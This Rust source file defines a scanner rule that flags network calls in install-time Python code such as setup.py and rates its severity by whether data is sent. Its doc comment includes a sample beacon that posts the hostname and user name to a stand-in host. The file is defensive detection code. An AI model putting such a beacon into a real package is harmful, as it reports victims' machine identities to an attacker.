use ossprey_model::{Category, Finding, Severity};
use ossprey_static::analysis::RunsAt;
use ossprey_static::facts::Call;

use super::common::{
    HOST_INFO, Liveness, SENDS, called_from_install, in_method, is_network, python_sources,
};
use crate::rules::catalog::is;
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds network calls (`urllib`, `requests`, `http.client`, `socket`, DNS) in
/// install-time Python code: `setup.py`, its `cmdclass` commands and the files
/// it imports. A call that sends data (a POST, a `data=`/`json=`/`params=`
/// argument, or host facts such as the hostname, user name, working directory
/// or environment read in the same code) weighs more, and most at the top level.
///
/// ## Why is this bad?
/// Building a package needs no network beyond what pip itself fetches. An
/// install that phones home is how dependency-confusion probes and stealers
/// report a new victim; a few benign packages download headers or binaries,
/// which is why a plain fetch is only medium.
///
/// ## Example
/// ```python
/// import socket, getpass, requests
/// requests.post("https://example.invalid/c", data={"h": socket.gethostname(), "u": getpass.getuser()})
/// ```
#[derive(Debug)]
pub struct InstallNetwork;

fn sends(call: &Call) -> bool {
    is(SENDS, &call.callee)
        // `urlopen(url, data)`
        || call.callee.ends_with("urlopen") && call.args.len() > 1
        || call
            .kwargs
            .iter()
            .any(|(k, _)| matches!(k.as_str(), "data" | "json" | "params"))
        || call
            .args
            .iter()
            .flat_map(|a| a.nested_callees())
            .any(|c| is(HOST_INFO, c))
}

/// A read of who or where the machine is (not an ordinary configuration lookup).
fn is_identity_read(call: &Call) -> bool {
    match call.callee.as_str() {
        "os.environ" => matches!(call.args.first(), Some(ossprey_static::facts::Arg::Other)),
        "os.getenv" | "os.environ.get" => false,
        c => is(HOST_INFO, c),
    }
}

impl Rule for InstallNetwork {
    fn id(&self) -> &'static str {
        "PY-INSTALL-NETWORK"
    }
    fn category(&self) -> Category {
        Category::NETWORK
    }
    fn summary(&self) -> &'static str {
        "network access in install-time Python code"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        let also = called_from_install(input);
        for (file, source) in python_sources(input) {
            if file.runs_at != RunsAt::Install {
                continue;
            }
            // Files setup.py imports run only what setup.py calls.
            let imported = file.imported_by.is_some();
            let live = Liveness::of(file, source, input, &also);
            let host_info = source.calls.iter().any(is_identity_read);
            let file_sends = source.calls.iter().any(|c| is(SENDS, &c.callee));
            for call in &source.calls {
                if !is_network(&call.callee) || imported && !live.runs(call) {
                    continue;
                }
                let top = call.scope.is_none();
                let sending = sends(call) || (host_info && (file_sends || top));
                // A beacon in a function that `setup.py` itself calls (or a
                // `cmdclass` method) runs on every install just like top-level
                // code: `def check(): urlopen(url, data=host)` then `check()`.
                let runs_by_itself =
                    top || sending && (live.runs(call) || in_method(call.scope.as_deref()));
                let severity = match (sending, runs_by_itself) {
                    (true, true) => Severity::Critical,
                    (true, false) | (false, true) => Severity::High,
                    (false, false) => Severity::Medium,
                };
                let what = if sending {
                    "sends data from install-time code"
                } else {
                    "reaches the network from install-time code"
                };
                out.push(finding(
                    self.id(),
                    severity,
                    self.category(),
                    format!("`{}` {what}", call.callee),
                    Some(&file.path),
                    Some(call.line),
                    Some(&call.snippet),
                ));
            }
        }
    }
}
